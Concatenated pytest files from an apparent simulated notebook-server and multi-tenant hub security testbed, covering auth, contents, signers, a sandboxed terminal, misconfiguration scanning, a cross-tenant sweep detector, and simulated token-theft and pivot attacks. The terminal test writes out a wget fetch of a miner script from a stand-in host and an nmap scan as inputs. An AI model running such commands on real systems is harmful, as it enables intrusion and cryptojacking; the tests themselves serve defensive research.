        assert shannon_entropy(b"\x00" * 1000) == 0.0

    def test_two_symbols_equal_is_one_bit(self):
        assert shannon_entropy(b"ab" * 500) == pytest.approx(1.0)

    def test_uniform_256_is_eight_bits(self):
        assert shannon_entropy(bytes(range(256)) * 4) == pytest.approx(8.0)

    def test_english_text_below_five_bits(self):
        text = b"the quick brown fox jumps over the lazy dog " * 50
        assert shannon_entropy(text) < 5.0

    @given(st.binary(min_size=1, max_size=2048))
    def test_bounds(self, data):
        e = shannon_entropy(data)
        assert 0.0 <= e <= 8.0 + 1e-9

    @given(st.binary(min_size=1, max_size=512))
    def test_permutation_invariant(self, data):
        assert shannon_entropy(data) == pytest.approx(shannon_entropy(bytes(sorted(data))))


class TestByteHistogram:
    def test_counts_sum_to_length(self):
        data = b"hello world"
        assert sum(byte_histogram(data)) == len(data)

    def test_specific_counts(self):
        hist = byte_histogram(b"aab")
        assert hist[ord("a")] == 2
        assert hist[ord("b")] == 1

    def test_empty(self):
        assert sum(byte_histogram(b"")) == 0


class TestChiSquare:
    def test_empty_is_inf(self):
        assert chi_square_uniform(b"") == math.inf

    def test_structured_much_larger_than_random(self):
        structured = b"A" * 4096
        pseudo_random = bytes((i * 131 + 17) % 256 for i in range(4096))
        assert chi_square_uniform(structured) > 100 * chi_square_uniform(pseudo_random)


class TestLooksEncrypted:
    def test_short_buffers_never_encrypted(self):
        assert not looks_encrypted(bytes(range(63)))

    def test_text_not_encrypted(self):
        assert not looks_encrypted(b"print('hello world from a notebook cell')" * 10)

    def test_uniform_bytes_encrypted(self):
        assert looks_encrypted(bytes(range(256)) * 8)
