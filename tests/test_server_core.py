"""Tests for server config, auth, contents manager, and terminal."""

import pytest

from repro.crypto.passwords import hash_password
from repro.nbformat import Notebook
from repro.server.auth import Authenticator, OIDCProviderSim
from repro.server.config import ServerConfig, insecure_demo_config
from repro.server.contents import ContentsError, ContentsManager
from repro.server.terminal import TerminalManager
from repro.util.clock import SimClock
from repro.vfs import VirtualFS


class TestServerConfig:
    def test_defaults_are_safe(self):
        cfg = ServerConfig()
        assert cfg.auth_enabled
        assert not cfg.publicly_bound
        assert cfg.known_cves() == []

    def test_insecure_demo_is_terrible(self):
        cfg = insecure_demo_config()
        assert not cfg.auth_enabled
        assert cfg.publicly_bound
        assert cfg.allow_origin == "*"
        assert cfg.known_cves()

    def test_tls_requires_both_files(self):
        assert not ServerConfig(certfile="a").tls_enabled
        assert ServerConfig(certfile="a", keyfile="b").tls_enabled

    def test_hardened_copy_fixes_everything(self):
        hardened = insecure_demo_config().hardened_copy()
        assert hardened.auth_enabled
        assert not hardened.publicly_bound
        assert hardened.tls_enabled
        assert hardened.allow_origin != "*"
        assert hardened.known_cves() == []
        assert hardened.rate_limit_max_requests > 0


class TestAuthenticator:
    def test_valid_token(self):
        cfg = ServerConfig(token="s3cret")
        auth = Authenticator(cfg)
        assert auth.authenticate(token="s3cret").ok

    def test_invalid_token(self):
        auth = Authenticator(ServerConfig(token="s3cret"))
        result = auth.authenticate(token="wrong", source_ip="1.2.3.4")
        assert not result.ok
        assert auth.failures_from("1.2.3.4") == 1

    def test_password_auth(self):
        cfg = ServerConfig(token="", password_hash=hash_password("pw", rounds=100))
        auth = Authenticator(cfg)
        assert auth.authenticate(password="pw").ok
        assert not auth.authenticate(password="nope").ok

    def test_open_access_when_no_auth(self):
        auth = Authenticator(insecure_demo_config())
        result = auth.authenticate()
        assert result.ok and result.method == "open"

    def test_no_credentials_rejected(self):
        assert not Authenticator(ServerConfig(token="t")).authenticate().ok

    def test_oidc_roundtrip(self):
        clock = SimClock()
        cfg = ServerConfig(token="t")
        auth = Authenticator(cfg, clock)
        idp = OIDCProviderSim("https://cilogon.example", b"idp-key", clock)
        auth.register_oidc(idp)
        assertion = idp.issue("alice@ncsa")
        result = auth.authenticate(oidc_assertion=assertion)
        assert result.ok and result.username == "alice@ncsa"

    def test_oidc_forgery_rejected(self):
        clock = SimClock()
        auth = Authenticator(ServerConfig(token="t"), clock)
        idp = OIDCProviderSim("https://cilogon.example", b"idp-key", clock)
        auth.register_oidc(idp)
        forged = OIDCProviderSim("https://cilogon.example", b"attacker-key", clock).issue("root")
        assert not auth.authenticate(oidc_assertion=forged).ok

    def test_oidc_expired_rejected(self):
        clock = SimClock()
        auth = Authenticator(ServerConfig(token="t"), clock)
        idp = OIDCProviderSim("https://idp", b"k", clock)
        auth.register_oidc(idp)
        assertion = idp.issue("bob", ttl=10)
        clock.advance(11)
        assert not auth.authenticate(oidc_assertion=assertion).ok

    def test_oidc_unknown_issuer(self):
        auth = Authenticator(ServerConfig(token="t"))
        idp = OIDCProviderSim("https://rogue", b"k")
        assert not auth.authenticate(oidc_assertion=idp.issue("x")).ok

    def test_failure_rate(self):
        clock = SimClock()
        auth = Authenticator(ServerConfig(token="t"), clock)
        for _ in range(30):
            auth.authenticate(token="bad", source_ip="6.6.6.6")
            clock.advance(1)
        assert auth.failure_rate(window=30) == pytest.approx(1.0)


def make_contents():
    fs = VirtualFS(SimClock())
    cm = ContentsManager(fs)
    return cm, fs


class TestContentsManager:
    def test_save_get_file(self):
        cm, _ = make_contents()
        cm.save("notes.txt", {"type": "file", "content": "hello"})
        model = cm.get("notes.txt")
        assert model["type"] == "file"
        assert model["content"] == "hello"
        assert model["size"] == 5

    def test_save_get_notebook(self):
        cm, _ = make_contents()
        nb = Notebook.new()
        nb.add_code("print(1)")
        cm.save("analysis.ipynb", {"type": "notebook", "content": nb.to_dict()})
        model = cm.get("analysis.ipynb")
        assert model["type"] == "notebook"
        assert model["content"]["cells"][0]["source"] == "print(1)"

    def test_invalid_notebook_rejected(self):
        cm, _ = make_contents()
        with pytest.raises(ContentsError, match="invalid notebook"):
            cm.save("bad.ipynb", {"type": "notebook", "content": {"cells": "nope"}})

    def test_base64_roundtrip(self):
        cm, _ = make_contents()
        cm.save("w.bin", {"type": "file", "format": "base64", "content": "AAEC"})
        model = cm.get("w.bin")
        assert model["format"] == "base64"
        assert model["content"] == "AAEC"

    def test_invalid_base64_rejected(self):
        cm, _ = make_contents()
        with pytest.raises(ContentsError, match="base64"):
            cm.save("w.bin", {"type": "file", "format": "base64", "content": "!!!"})

    def test_directory_listing_hides_checkpoints(self):
        cm, _ = make_contents()
        cm.save("a.txt", {"type": "file", "content": "x"})
        cm.create_checkpoint("a.txt")
        listing = cm.get("")
        names = [e["name"] for e in listing["content"]]
        assert names == ["a.txt"]

    def test_get_missing_404(self):
        cm, _ = make_contents()
        with pytest.raises(ContentsError) as e:
            cm.get("ghost.txt")
        assert e.value.status == 404

    def test_delete_and_rename(self):
        cm, _ = make_contents()
        cm.save("a.txt", {"type": "file", "content": "1"})
        cm.rename("a.txt", "b.txt")
        assert cm.get("b.txt")["content"] == "1"
        cm.delete("b.txt")
        with pytest.raises(ContentsError):
            cm.get("b.txt")

    def test_mkdir_via_save(self):
        cm, _ = make_contents()
        cm.save("proj", {"type": "directory"})
        assert cm.get("proj")["type"] == "directory"

    def test_checkpoint_restore_cycle(self):
        cm, _ = make_contents()
        cm.save("nb.txt", {"type": "file", "content": "original"})
        cm.create_checkpoint("nb.txt")
        cm.save("nb.txt", {"type": "file", "content": "ENCRYPTED"})
        cm.restore_checkpoint("nb.txt")
        assert cm.get("nb.txt")["content"] == "original"

    def test_list_checkpoints(self):
        cm, _ = make_contents()
        cm.save("nb.txt", {"type": "file", "content": "v1"})
        cm.create_checkpoint("nb.txt", "0")
        cm.create_checkpoint("nb.txt", "1")
        assert [c["id"] for c in cm.list_checkpoints("nb.txt")] == ["0", "1"]

    def test_delete_checkpoint(self):
        cm, _ = make_contents()
        cm.save("nb.txt", {"type": "file", "content": "v1"})
        cm.create_checkpoint("nb.txt")
        cm.delete_checkpoint("nb.txt", "0")
        assert cm.list_checkpoints("nb.txt") == []

    def test_restore_missing_checkpoint_404(self):
        cm, _ = make_contents()
        cm.save("nb.txt", {"type": "file", "content": "v1"})
        with pytest.raises(ContentsError):
            cm.restore_checkpoint("nb.txt", "9")

    def test_notebook_helpers(self):
        cm, _ = make_contents()
        nb = Notebook.new()
        nb.add_code("x = 1")
        cm.save_notebook("n.ipynb", nb)
        nb2 = cm.get_notebook("n.ipynb")
        assert nb2.code_cells[0].source == "x = 1"

    def test_get_notebook_on_file_rejected(self):
        cm, _ = make_contents()
        cm.save("a.txt", {"type": "file", "content": "x"})
        with pytest.raises(ContentsError, match="not a notebook"):
            cm.get_notebook("a.txt")


class TestTerminal:
    def make(self):
        fs = VirtualFS(SimClock())
        fs.write("home/data.csv", b"1,2,3")
        fs.write("home/proj/model.pt", b"weights")
        tm = TerminalManager(fs)
        return tm.create(), fs, tm

    def test_ls_pwd_cd(self):
        term, _, _ = self.make()
        assert term.run("ls")[1] == "data.csv\nproj"
        assert term.run("pwd")[1] == "/home"
        assert term.run("cd proj")[0] == 0
        assert term.run("ls")[1] == "model.pt"

    def test_cat(self):
        term, _, _ = self.make()
        assert term.run("cat data.csv") == (0, "1,2,3")

    def test_unknown_command_127(self):
        term, _, _ = self.make()
        code, out = term.run("nmap -p- 10.0.0.0/8")
        assert code == 127 and "command not found" in out

    def test_rm_recursive(self):
        term, fs, _ = self.make()
        assert term.run("rm -rf proj")[0] == 0
        assert not fs.is_file("home/proj/model.pt")

    def test_mv_echo_mkdir(self):
        term, fs, _ = self.make()
        term.run("mkdir staging")
        term.run("mv data.csv staging/data.csv")
        assert fs.is_file("home/staging/data.csv")
        assert term.run("echo hello world")[1] == "hello world"

    def test_wget_fails_but_recorded(self):
        term, _, _ = self.make()
        code, out = term.run("wget http://evil.example/miner.sh")
        assert code != 0
        assert term.history[-1].command.startswith("wget")

    def test_history_and_listeners(self):
        term, _, _ = self.make()
        seen = []
        term.listeners.append(lambda rec: seen.append(rec.command))
        term.run("whoami")
        term.run("uname")
        assert seen == ["whoami", "uname"]
        assert "whoami" in term.run("history")[1]

    def test_manager_lifecycle(self):
        _, _, tm = self.make()
        t2 = tm.create()
        assert tm.list_names() == ["1", "2"]
        assert tm.get("2") is t2
        assert tm.delete("1")
        assert not tm.delete("1")
        t2.run("pwd")
        assert len(tm.all_commands()) == 1

    def test_cd_missing_dir(self):
        term, _, _ = self.make()
        assert term.run("cd /nonexistent")[0] == 1

    def test_parse_error(self):
        term, _, _ = self.make()
        assert term.run("echo 'unterminated")[0] == 2
