"""Tests for classical signers, the agility registry, and passwords."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from repro.crypto.passwords import (
    hash_password,
    parse_hash_rounds,
    token_entropy_bits,
    verify_password,
)
from repro.crypto.signing import (
    HMACSHA3Signer,
    HMACSigner,
    NullSigner,
    available_schemes,
    get_signer,
)


class TestHMACSigner:
    def test_known_answer(self):
        # HMAC-SHA256("key", "abc") — cross-checked with hashlib directly.
        import hashlib
        import hmac as hmac_mod

        signer = HMACSigner(b"key")
        expected = hmac_mod.new(b"key", b"abc", hashlib.sha256).hexdigest().encode()
        assert signer.sign([b"a", b"bc"]) == expected

    def test_verify_roundtrip(self):
        s = HMACSigner(b"secret")
        sig = s.sign([b"header", b"content"])
        assert s.verify([b"header", b"content"], sig)

    def test_verify_rejects_tamper(self):
        s = HMACSigner(b"secret")
        sig = s.sign([b"header", b"content"])
        assert not s.verify([b"header", b"contenT"], sig)

    def test_verify_rejects_wrong_key(self):
        sig = HMACSigner(b"k1").sign([b"x"])
        assert not HMACSigner(b"k2").verify([b"x"], sig)

    def test_segmentation_matters_not(self):
        # HMAC over concatenated segments: [b"ab"] == [b"a", b"b"].
        s = HMACSigner(b"k")
        assert s.sign([b"ab"]) == s.sign([b"a", b"b"])

    def test_key_must_be_bytes(self):
        with pytest.raises(TypeError):
            HMACSigner("string-key")

    @given(st.lists(st.binary(max_size=100), max_size=5), st.binary(min_size=1, max_size=32))
    def test_property_roundtrip(self, segments, key):
        s = HMACSigner(key)
        assert s.verify(segments, s.sign(segments))


class TestSHA3AndNull:
    def test_sha3_differs_from_sha2(self):
        assert HMACSigner(b"k").sign([b"m"]) != HMACSHA3Signer(b"k").sign([b"m"])

    def test_sha3_roundtrip(self):
        s = HMACSHA3Signer(b"k")
        assert s.verify([b"m"], s.sign([b"m"]))

    def test_null_signer_accepts_anything(self):
        s = NullSigner()
        assert s.sign([b"m"]) == b""
        assert s.verify([b"m"], b"forged-signature")

    def test_signature_size(self):
        assert HMACSigner(b"k").signature_size == 64  # hex sha256
        assert NullSigner().signature_size == 0


class TestRegistry:
    def test_known_schemes_present(self):
        schemes = available_schemes()
        for s in ("hmac-sha256", "hmac-sha3-256", "none", "lamport", "wots", "merkle"):
            assert s in schemes

    def test_get_signer_builds_correct_type(self):
        assert isinstance(get_signer("hmac-sha256", b"k"), HMACSigner)
        assert isinstance(get_signer("none"), NullSigner)

    def test_unknown_scheme_raises(self):
        with pytest.raises(KeyError):
            get_signer("rot13")


class TestPasswords:
    def test_roundtrip(self):
        stored = hash_password("hunter2", rounds=1000)
        assert verify_password("hunter2", stored)
        assert not verify_password("hunter3", stored)

    def test_distinct_salts(self):
        assert hash_password("pw", rounds=100) != hash_password("pw", rounds=100)

    def test_malformed_hash_rejected(self):
        assert not verify_password("pw", "not-a-hash")
        assert not verify_password("pw", "md5:1:aa:bb")

    def test_parse_rounds(self):
        assert parse_hash_rounds(hash_password("pw", rounds=1234)) == 1234
        assert parse_hash_rounds("garbage") is None

    def test_token_entropy_ordering(self):
        from repro.util.ids import new_token

        weak = token_entropy_bits("password")
        strong = token_entropy_bits(new_token())
        assert weak < 40
        assert strong > 100

    def test_token_entropy_degenerate(self):
        assert token_entropy_bits("") == 0.0
        assert token_entropy_bits("a") == 0.0
        assert token_entropy_bits("aaaa") < 3
