"""Tests for identifier generation and deterministic RNG streams."""

from repro.util.ids import new_id, new_token, seed_ids, short_id
from repro.util.rng import DeterministicRNG


class TestIds:
    def test_new_id_hex32(self):
        i = new_id()
        assert len(i) == 32
        assert all(c in "0123456789abcdef" for c in i)

    def test_prefix(self):
        assert new_id("kernel-").startswith("kernel-")

    def test_ids_distinct(self):
        assert len({new_id() for _ in range(100)}) == 100

    def test_seeded_stream_reproducible(self):
        seed_ids(42)
        a = [new_id() for _ in range(5)]
        seed_ids(42)
        b = [new_id() for _ in range(5)]
        assert a == b

    def test_short_id_length(self):
        assert len(short_id()) == 8
        assert len(short_id("x-")) == 10

    def test_token_is_strong_and_distinct(self):
        t1, t2 = new_token(), new_token()
        assert t1 != t2
        assert len(t1) >= 24


class TestDeterministicRNG:
    def test_same_seed_same_stream(self):
        a = DeterministicRNG(7)
        b = DeterministicRNG(7)
        assert [a.random() for _ in range(10)] == [b.random() for _ in range(10)]

    def test_string_seed(self):
        a = DeterministicRNG("attacker")
        b = DeterministicRNG("attacker")
        assert a.randint(0, 1 << 30) == b.randint(0, 1 << 30)

    def test_children_independent_of_sibling_order(self):
        root = DeterministicRNG(1)
        w1 = root.child("workload")
        first = w1.random()
        # Creating another child must not perturb the workload stream.
        root2 = DeterministicRNG(1)
        _ = root2.child("attacker")
        w2 = root2.child("workload")
        assert w2.random() == first

    def test_children_differ_by_name(self):
        root = DeterministicRNG(1)
        assert root.child("a").random() != root.child("b").random()

    def test_poisson_times_sorted_within_horizon(self):
        rng = DeterministicRNG(3)
        times = list(rng.poisson_times(rate=5.0, horizon=10.0))
        assert times == sorted(times)
        assert all(0 < t <= 10.0 for t in times)
        assert len(times) > 10  # E[N] = 50

    def test_poisson_zero_rate_empty(self):
        rng = DeterministicRNG(3)
        assert list(rng.poisson_times(rate=0.0, horizon=10.0)) == []

    def test_randbytes_length(self):
        assert len(DeterministicRNG(0).randbytes(17)) == 17
