"""Tests for the shared zero-copy ByteCursor."""

import pytest

from repro.wire.buffer import ByteCursor


class TestBasics:
    def test_empty(self):
        cur = ByteCursor()
        assert len(cur) == 0
        assert not cur
        assert cur.peek() == b""
        assert cur.take_all() == b""

    def test_append_take(self):
        cur = ByteCursor()
        cur.append(b"hello ")
        cur.append(b"world")
        assert len(cur) == 11
        assert cur.take(6) == b"hello "
        assert len(cur) == 5
        assert cur.take_all() == b"world"
        assert not cur

    def test_init_with_data(self):
        cur = ByteCursor(b"abc")
        assert cur.take_all() == b"abc"

    def test_peek_does_not_consume(self):
        cur = ByteCursor(b"abcdef")
        assert cur.peek(3) == b"abc"
        assert cur.peek(3, offset=2) == b"cde"
        assert cur.peek(100) == b"abcdef"
        assert len(cur) == 6

    def test_skip(self):
        cur = ByteCursor(b"abcdef")
        cur.skip(2)
        assert cur.peek(2) == b"cd"
        assert cur.total_consumed == 2

    def test_indexing(self):
        cur = ByteCursor(b"abc")
        cur.skip(1)
        assert cur[0] == ord("b")
        assert cur[1] == ord("c")
        with pytest.raises(IndexError):
            cur[2]

    def test_find_is_cursor_relative(self):
        cur = ByteCursor(b"xxabcd")
        cur.skip(2)
        assert cur.find(b"cd") == 2
        assert cur.find(b"xx") == -1
        assert cur.find(b"cd", start=3) == -1

    def test_take_bounds(self):
        cur = ByteCursor(b"ab")
        with pytest.raises(ValueError):
            cur.take(3)
        with pytest.raises(ValueError):
            cur.skip(-1)

    def test_clear(self):
        cur = ByteCursor(b"abcdef")
        cur.skip(1)
        cur.clear()
        assert len(cur) == 0
        assert cur.total_consumed == 6

    def test_view_matches_unread(self):
        cur = ByteCursor(b"abcdef")
        cur.skip(2)
        with cur.view() as v:
            assert bytes(v) == b"cdef"

    def test_accounting_totals(self):
        cur = ByteCursor()
        cur.append(b"x" * 10)
        cur.take(4)
        cur.append(b"y" * 5)
        cur.skip(3)
        assert cur.total_appended == 15
        assert cur.total_consumed == 7
        assert len(cur) == 8


class TestCompaction:
    def test_compacts_after_threshold(self):
        cur = ByteCursor(compact_at=64)
        cur.append(b"a" * 200)
        cur.skip(150)
        # Dead prefix (150) > threshold and > half the buffer: compacted.
        assert len(cur._buf) == 50
        assert cur.take_all() == b"a" * 50

    def test_no_compaction_when_tail_dominates(self):
        cur = ByteCursor(compact_at=64)
        cur.append(b"a" * 1000)
        cur.skip(100)  # prefix > threshold but < half: left in place
        assert len(cur._buf) == 1000
        assert len(cur) == 900

    def test_amortized_linear_ingest(self):
        """Feeding N bytes in small chunks with interleaved consumption
        must not blow up: the compaction bound keeps total copying O(N)."""
        cur = ByteCursor(compact_at=256)
        total = 0
        for i in range(2000):
            chunk = bytes([i & 0xFF]) * 37
            cur.append(chunk)
            total += len(chunk)
            if len(cur) > 64:
                cur.skip(64)
        assert cur.total_appended == total
        assert cur.total_consumed + len(cur) == total

    def test_data_integrity_across_compactions(self):
        cur = ByteCursor(compact_at=16)
        expect = bytearray()
        got = bytearray()
        for i in range(300):
            piece = bytes([i % 251]) * (i % 7 + 1)
            cur.append(piece)
            expect += piece
            if i % 3 == 0:
                got += cur.take(min(len(cur), 5))
        got += cur.take_all()
        assert bytes(got) == bytes(expect)