"""Tests for the multi-tenant hub: users, spawner, proxy, culler,
misconfiguration checks, and the cross-tenant pivot attack."""

import json

import pytest

from repro.attacks import CrossTenantPivotAttack, StolenTokenAttack
from repro.hub import (
    HubConfig,
    HubUserDirectory,
    HubUserError,
    SpawnError,
    build_hub_scenario,
    insecure_hub_config,
)
from repro.misconfig import MisconfigScanner, run_hub_checks
from repro.monitor.anomaly import TenantSweepDetector
from repro.workload import ScientistWorkload


class TestHubUsers:
    def test_invite_mode_rejects_signup(self):
        users = HubUserDirectory(HubConfig(signup_mode="invite"))
        with pytest.raises(HubUserError) as e:
            users.signup("mallory")
        assert e.value.status == 403
        assert users.signup_rejections == 1

    def test_open_mode_allows_signup(self):
        users = HubUserDirectory(HubConfig(signup_mode="open"))
        user = users.signup("alice")
        assert user.name == "alice" and user.token

    def test_duplicate_and_invalid_names_rejected(self):
        users = HubUserDirectory(HubConfig())
        users.create("alice")
        with pytest.raises(HubUserError):
            users.create("alice")
        for bad in ("", "a/b", ".hidden"):
            with pytest.raises(HubUserError):
                users.create(bad)

    def test_per_user_tokens_are_distinct(self):
        users = HubUserDirectory(HubConfig(per_user_tokens=True))
        a, b = users.create("a"), users.create("b")
        assert a.token != b.token

    def test_shared_token_mode_reuses_hub_token(self):
        cfg = HubConfig(api_token="shared", per_user_tokens=False)
        users = HubUserDirectory(cfg)
        a, b = users.create("a"), users.create("b")
        assert a.token == b.token == "shared"

    def test_authenticate_resolves_user_and_hub_token(self):
        cfg = HubConfig(api_token="hubtok")
        users = HubUserDirectory(cfg)
        alice = users.create("alice")
        assert users.authenticate(alice.token) == (alice, False)
        assert users.authenticate("hubtok") == (None, True)
        assert users.authenticate("nope") == (None, False)
        assert users.authenticate("") == (None, False)

    def test_admin_from_config_list(self):
        users = HubUserDirectory(HubConfig(admin_users=("root",)))
        assert users.create("root").admin
        assert not users.create("pleb").admin


class TestSpawner:
    def _scenario(self, **kw):
        kw.setdefault("n_tenants", 2)
        kw.setdefault("seed_data", False)
        return build_hub_scenario(**kw)

    def test_spawn_is_idempotent(self):
        s = self._scenario()
        user = s.hub.users["user00"]
        assert s.spawner.spawn(user) is s.spawner.active["user00"]
        assert s.spawner.total_spawned == 2

    def test_servers_get_distinct_ports_and_isolated_fs(self):
        s = self._scenario()
        a = s.spawner.active["user00"]
        b = s.spawner.active["user01"]
        assert (a.host.name, a.port) != (b.host.name, b.port)
        a.server.fs.write("home/only-a.txt", b"x")
        assert not b.server.fs.is_file("home/only-a.txt")

    def test_max_servers_enforced(self):
        s = self._scenario(hub_config=HubConfig(api_token="t", max_servers=2))
        with pytest.raises(SpawnError) as e:
            s.ensure_tenant("overflow")
        assert e.value.status == 403

    def test_spawn_rate_enforced(self):
        cfg = HubConfig(api_token="t", spawn_rate_per_minute=2)
        s = build_hub_scenario(n_tenants=2, seed_data=False, hub_config=cfg)
        with pytest.raises(SpawnError) as e:
            s.ensure_tenant("third")
        assert e.value.status == 429
        s.run(70.0)  # window passes; spawning resumes
        assert s.ensure_tenant("third").username == "third"

    def test_stop_releases_port_and_route(self):
        s = self._scenario()
        spawned = s.spawner.active["user01"]
        assert s.spawner.stop("user01")
        assert spawned.port not in spawned.host.listeners
        assert "user01" not in s.proxy.routes
        assert not s.spawner.stop("user01")

    def test_tenant_files_seeded(self):
        s = self._scenario()
        server = s.spawner.active["user01"].server
        assert server.fs.is_file("home/data/measurements_0.csv")


class TestReverseProxy:
    def test_routes_rest_to_the_right_tenant(self):
        s = build_hub_scenario(n_tenants=3, seed_data=False)
        client = s.user_client(username="user02")
        resp = client.request("GET", "/api/status")
        assert resp.status == 200
        backend = s.spawner.active["user02"].server
        assert backend.access_log and backend.access_log[-1].path == "/api/status"
        assert s.proxy.routes["user02"].requests == 1

    def test_unknown_user_404_stopped_server_503(self):
        s = build_hub_scenario(n_tenants=2, seed_data=False)
        client = s.user_client(username="user00")
        client.path_prefix = "/user/ghost"
        assert client.request("GET", "/api/status").status == 403  # not our token
        hub_client = s.user_client(username="user00")
        hub_client.token = s.hub_config.api_token
        hub_client.path_prefix = "/user/ghost"
        assert hub_client.request("GET", "/api/status").status == 404
        s.spawner.stop("user01")
        hub_client.path_prefix = "/user/user01"
        assert hub_client.request("GET", "/api/status").status == 503

    def test_proxy_denies_cross_tenant_token(self):
        s = build_hub_scenario(n_tenants=2, seed_data=False)
        client = s.user_client(username="user00")
        client.path_prefix = "/user/user01"
        resp = client.request("GET", "/api/contents/")
        assert resp.status == 403
        assert s.proxy.stats.denied_total == 1

    def test_hub_token_reaches_any_tenant(self):
        s = build_hub_scenario(n_tenants=2, seed_data=False)
        client = s.attacker_client(token=s.hub_config.api_token, tenant="user01")
        assert client.request("GET", "/api/status").status == 200

    def test_proxy_auth_bypass_routes_anything(self):
        s = build_hub_scenario(n_tenants=2, seed_data=False,
                               hub_config=insecure_hub_config())
        client = s.attacker_client(token="", tenant="user01")
        assert client.request("GET", "/api/status").status == 200

    def test_websocket_execute_through_proxy(self):
        s = build_hub_scenario(n_tenants=2, seed_data=False)
        client = s.user_client(username="user01")
        client.start_kernel()
        client.connect_channels()
        reply = client.execute("6 * 7")
        assert reply is not None and reply.content["status"] == "ok"
        assert s.proxy.routes["user01"].ws_upgrades == 1
        # The kernel ran on user01's backend, not the default tenant's.
        assert s.spawner.active["user01"].server.kernels
        assert not s.server.kernels

    def test_route_counters_accumulate(self):
        s = build_hub_scenario(n_tenants=2, seed_data=False)
        client = s.user_client(username="user00")
        for _ in range(3):
            client.request("GET", "/api/status")
        route = s.proxy.routes["user00"]
        assert route.requests == 3
        assert route.bytes_in > 0 and route.bytes_out > 0
        assert route.last_activity > 0


class TestHubApi:
    def test_status_endpoint(self):
        s = build_hub_scenario(n_tenants=2, seed_data=False)
        client = s.user_client(username="user00")
        payload = client.json("GET", "/hub/api")
        assert payload["users"] == 2 and payload["servers_running"] == 2

    def test_signup_open_vs_invite(self):
        s = build_hub_scenario(n_tenants=1, seed_data=False,
                               hub_config=insecure_hub_config())
        client = s.attacker_client()
        resp = client.request("POST", "/hub/signup",
                              json.dumps({"name": "evil"}).encode())
        assert resp.status == 201
        assert json.loads(resp.body)["token"]

        s2 = build_hub_scenario(n_tenants=1, seed_data=False)
        resp2 = s2.attacker_client().request(
            "POST", "/hub/signup", json.dumps({"name": "evil"}).encode())
        assert resp2.status == 403

    def test_user_listing_is_admin_only(self):
        s = build_hub_scenario(n_tenants=2, seed_data=False)
        client = s.user_client(username="user00")
        assert client.request("GET", "/hub/api/users").status == 403
        client.token = s.hub_config.api_token
        listing = client.json("GET", "/hub/api/users")
        assert [u["name"] for u in listing] == ["user00", "user01"]

    def test_server_lifecycle_via_hub_api(self):
        s = build_hub_scenario(n_tenants=2, seed_data=False, spawn_all=False)
        assert "user01" not in s.spawner.active
        client = s.user_client(username="user00")
        client.token = s.hub_config.api_token
        resp = client.request("POST", "/hub/api/users/user01/server")
        assert resp.status == 201
        assert "user01" in s.spawner.active
        assert client.request("DELETE", "/hub/api/users/user01/server").status == 204
        assert "user01" not in s.spawner.active

    def test_routes_table_reports_counters(self):
        s = build_hub_scenario(n_tenants=2, seed_data=False)
        user = s.user_client(username="user01")
        user.request("GET", "/api/status")
        admin = s.user_client(username="user00")
        admin.token = s.hub_config.api_token
        routes = admin.json("GET", "/hub/api/routes")
        assert routes["/user/user01"]["requests"] == 1


class TestIdleCuller:
    def test_idle_servers_reclaimed(self):
        cfg = HubConfig(api_token="t", cull_idle_timeout=120.0, cull_interval=30.0)
        s = build_hub_scenario(n_tenants=3, seed_data=False, hub_config=cfg)
        s.run(400.0)
        assert not s.spawner.running()
        assert {r.username for r in s.culler.culled} == {"user00", "user01", "user02"}

    def test_active_server_survives_idle_ones_die(self):
        cfg = HubConfig(api_token="t", cull_idle_timeout=200.0, cull_interval=50.0)
        s = build_hub_scenario(n_tenants=2, seed_data=False, hub_config=cfg)
        client = s.user_client(username="user00")
        for _ in range(4):
            s.run(60.0)
            client.request("GET", "/api/status")
        assert "user00" in s.spawner.running()
        assert "user01" not in s.spawner.running()

    def test_disabled_culler_never_fires(self):
        s = build_hub_scenario(n_tenants=2, seed_data=False,
                               hub_config=insecure_hub_config())
        s.run(5000.0)
        assert s.culler.sweeps == 0
        assert len(s.spawner.running()) == 2


class TestHubMisconfig:
    def test_insecure_hub_fails_every_check(self):
        results = run_hub_checks(insecure_hub_config())
        assert all(not r.passed for r in results)
        report = MisconfigScanner().scan_hub(insecure_hub_config())
        assert report.grade == "F"
        assert {"HUB-002", "HUB-003"} <= {r.check_id for r in report.failures}

    def test_hardened_hub_passes(self):
        cfg = HubConfig()  # defaults: invite, per-user tokens, proxy auth, culling
        report = MisconfigScanner().scan_hub(cfg)
        assert report.grade == "A", [r.check_id for r in report.failures]

    def test_shared_token_is_critical(self):
        results = {r.check_id: r for r in run_hub_checks(
            HubConfig(per_user_tokens=False))}
        assert not results["HUB-002"].passed
        assert results["HUB-002"].severity.value == "critical"


class TestTenantSweepDetector:
    def test_fires_on_tenant_fanout(self):
        det = TenantSweepDetector(max_tenants=3)
        assert det.observe_request(1.0, "6.6.6.6", "/user/a/api/status") is None
        assert det.observe_request(2.0, "6.6.6.6", "/user/b/api/status") is None
        notice = det.observe_request(3.0, "6.6.6.6", "/user/c/api/status")
        assert notice is not None and notice.name == "CROSS_TENANT_SWEEP"

    def test_single_tenant_user_never_fires(self):
        det = TenantSweepDetector(max_tenants=3)
        for t in range(50):
            assert det.observe_request(float(t), "10.0.0.42",
                                       "/user/alice/api/contents/") is None

    def test_ignores_non_hub_paths(self):
        det = TenantSweepDetector(max_tenants=2)
        assert det.observe_request(1.0, "1.2.3.4", "/api/status") is None
        assert det.observe_request(2.0, "1.2.3.4", "/hub/api") is None


class TestCrossTenantPivot:
    def test_pivot_succeeds_on_shared_token_hub(self):
        s = build_hub_scenario(n_tenants=5, seed=77,
                               hub_config=insecure_hub_config())
        result = CrossTenantPivotAttack().run(s)
        assert result.success
        assert result.metrics["tenants_pivoted"] >= 4
        assert result.metrics["bytes_browsed"] > 0
        s.run(10.0)
        assert "CROSS_TENANT_SWEEP" in {n.name for n in s.monitor.logs.notices}

    def test_pivot_fails_on_per_user_token_hub(self):
        s = build_hub_scenario(n_tenants=5, seed=78)
        result = CrossTenantPivotAttack().run(s)
        assert not result.success
        assert result.metrics["tenants_pivoted"] == 0

    def test_pivot_needs_a_hub(self):
        from repro.attacks.scenario import build_scenario

        result = CrossTenantPivotAttack().run(build_scenario(seed_data=False))
        assert not result.success


class TestHubScenarioCompat:
    def test_single_server_attack_runs_unchanged(self):
        s = build_hub_scenario(n_tenants=2, seed=31)
        result = StolenTokenAttack().run(s)
        assert result.success

    def test_workload_on_named_tenant(self):
        s = build_hub_scenario(n_tenants=2, seed=32, seed_data=False)
        report = ScientistWorkload(s, username="user01").run_session(cells=3)
        assert report.cells_executed == 3 and report.errors == 0
